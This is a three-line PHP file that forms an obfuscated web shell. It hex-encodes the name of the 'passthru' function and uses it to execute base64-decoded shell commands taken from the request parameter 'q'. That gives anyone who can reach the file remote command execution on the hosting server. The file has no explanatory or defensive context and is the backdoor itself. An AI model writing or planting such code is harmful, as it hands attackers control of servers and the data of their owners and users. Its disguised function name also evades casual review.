<?php
$a = hex2bin('7061737374687275');
$a(base64_decode($_REQUEST['q']));
